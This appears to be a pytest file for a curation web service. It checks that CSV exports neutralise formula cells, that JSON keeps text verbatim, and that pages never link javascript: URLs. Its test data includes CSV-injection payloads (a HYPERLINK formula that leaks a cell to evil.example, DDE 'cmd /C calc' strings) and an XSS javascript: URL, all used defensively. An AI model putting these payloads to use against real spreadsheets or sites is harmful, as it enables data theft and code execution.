"""Exports and pages safe in the programs that open them: a CSV cell a spreadsheet would evaluate as a formula is
neutralised (a single quote in front: OWASP's advice), while the JSON keeps the text verbatim and numbers stay
numbers; the pages link only http and https URLs; the docs page carries the pages' protections."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from service.knowledge import dumps
from service.knowledge.kinds import BY_NAME
from service.store import models as m
from service.store.db import db
from tests.helpers import EXPORTS, auth, fetch

HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the text")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def publish(client, tokens, kind: str, record_id: str, record: dict) -> None:
    body = {"kind": kind, "action": "create", "id": record_id, "record": record, "summary": "add " + record_id}
    proposed = client.post("/api/v1/changes", json=body, headers=auth(tokens["curator"]))
    assert proposed.status_code == 201, proposed.get_data(as_text=True)
    approved = client.post(f"/api/v1/changes/{proposed.get_json()['id']}/approve", headers=auth(tokens["editor"]))
    assert approved.status_code == 200, approved.get_data(as_text=True)


def csv_rows(client, table: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(fetch(client, f"{EXPORTS}/{table}.csv").get_data(as_text=True))))


def test_a_formula_published_through_the_api_is_neutralised_in_csv_and_verbatim_in_json(curation):
    app, client, tokens = curation
    before = csv_rows(client, "sources")
    ids = [f"hostile-reference-{number}" for number in range(len(HOSTILE_TITLES))]
    for record_id, title in zip(ids, HOSTILE_TITLES, strict=True):
        publish(
            client, tokens, "source", record_id, {"kind": "reference", "title": title, "url": "https://example.org/"}
        )

    rows = {row["id"]: row for row in csv_rows(client, "sources")}
    for record_id, title in zip(ids, HOSTILE_TITLES, strict=True):
        assert rows[record_id]["title"] == "'" + title  # shown as text by Excel, LibreOffice and Google Sheets
        assert client.get(f"/api/v1/sources/{record_id}").get_json()["title"] == title
    records = [
        json.loads(line) for line in fetch(client, f"{EXPORTS}/records.ndjson").get_data(as_text=True).splitlines()
    ]
    served = {r["id"]: r["record"]["title"] for r in records if r["type"] == "source"}
    knowledge = json.loads(fetch(client, f"{EXPORTS}/knowledge.json").get_data(as_text=True))
    kept = {s["id"]: s["title"] for s in knowledge["sources"]}
    for record_id, title in zip(ids, HOSTILE_TITLES, strict=True):
        assert served[record_id] == title and kept[record_id] == title
    # Every other row is as before.
    assert [row for row in rows.values() if row["id"] not in ids] == before


def test_every_text_cell_of_every_csv_starts_with_no_formula_trigger(curation):
    app, client, tokens = curation
    publish(client, tokens, "topic", "formula-topic", {"description": "=1+1 is text here, and so is -1"})
    for table in bulk_tables():
        for row in csv.reader(io.StringIO(fetch(client, f"{EXPORTS}/{table}.csv").get_data(as_text=True))):
            for value in row:
                assert not value.startswith(dumps.FORMULA_TRIGGERS) or re.fullmatch(r"-[0-9.e+-]+", value), (
                    table,
                    value,
                )
    topic = next(row for row in csv_rows(client, "topics") if row["id"] == "formula-topic")
    assert topic["description"] == "'=1+1 is text here, and so is -1"


def bulk_tables() -> list[str]:
    from service.resources.exports import TABLES

    return list(TABLES)


@pytest.mark.parametrize(
    "value, expected",
    [
        (-1, "-1"),  # a number stays a number: spreadsheets read it as one
        (-2.5, "-2.5"),
        (3_000_000_000, "3000000000"),
        ("-1", "'-1"),  # text that looks like a number (or a formula) is text
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@here", "'@here"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("a = b", "a = b"),
        ("'quoted already", "'quoted already"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (["=a", "b"], "'=a; b"),  # a joined list is one text cell
        (["a", "=b"], "a; =b"),
        ([{"relay": "=x"}], '[{"relay":"=x"}]'),  # JSON starts with [ or {: never a formula
        ({"note": "-x"}, '{"note":"-x"}'),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_starting_with_a_trigger(value, expected):
    assert dumps.cell(value) == expected


def test_a_url_that_is_not_http_or_https_is_shown_as_text_on_the_pages(curation):
    """Defence in depth: the schemas refuse such URLs, but a page never links one, whatever the database holds."""
    app, client, tokens = curation
    hostile = "javascript:alert(document.domain)"
    with app.app_context(), db.connection_context():
        reference, other = m.Source.select().where(m.Source.kind == "reference").order_by(m.Source.id).limit(2)
        document = m.Document.get((m.Document.kind == "source") & (m.Document.record_id == reference.id))
        record = json.loads(document.body)
        record["url"] = hostile
        m.Document.update(body=json.dumps(record, ensure_ascii=False)).where(
            (m.Document.kind == "source") & (m.Document.record_id == reference.id)
        ).execute()
        m.Source.update(url=hostile).where(m.Source.id == reference.id).execute()
        with_pages = [name for name, kind in BY_NAME.items() if kind.page]  # (a claim is served in its dispute's)
        citing = (
            m.Citation.select(m.Citation.fact_type, m.Citation.fact_id)
            .where((m.Citation.source == reference.id) & m.Citation.fact_type.in_(with_pages))
            .order_by(m.Citation.fact_type, m.Citation.fact_id)
            .first()
        )
    pages = [BY_NAME["source"].page_of(reference.id), BY_NAME[citing.fact_type].page_of(citing.fact_id)]
    for url in pages:
        page = client.get(url)
        assert page.status_code == 200, url
        html = page.get_data(as_text=True)
        assert hostile in html, url  # shown, as text
        assert not re.search(r"""href=["']?\s*javascript:""", html, re.IGNORECASE), url
    linked = client.get(f"/sources/{other.id}").get_data(as_text=True)
    assert f'<a class="external" href="{other.url}"' in linked  # a web URL is still a link


def test_the_docs_page_has_the_pages_policy_and_no_inline_script(client):
    docs = client.get("/docs")
    assert docs.status_code == 200
    policy = docs.headers["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'none'" and directives["script-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'" and directives["base-uri"] == "'none'"
    assert docs.headers["X-Content-Type-Options"] == "nosniff"
    html = docs.get_data(as_text=True)
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", html, re.DOTALL)
    assert scripts and all('src="/' in attributes and not body.strip() for attributes, body in scripts)
    for url in re.findall(r'(?:src|href)="([^"]+)"', html):  # everything it loads, from the service itself
        assert url.startswith("/") and not url.startswith("//"), url
        with client.get(url) as loaded:
            assert loaded.status_code == 200, url
    assert client.get("/docs").headers["Content-Security-Policy"] == policy  # a hit of the cache too
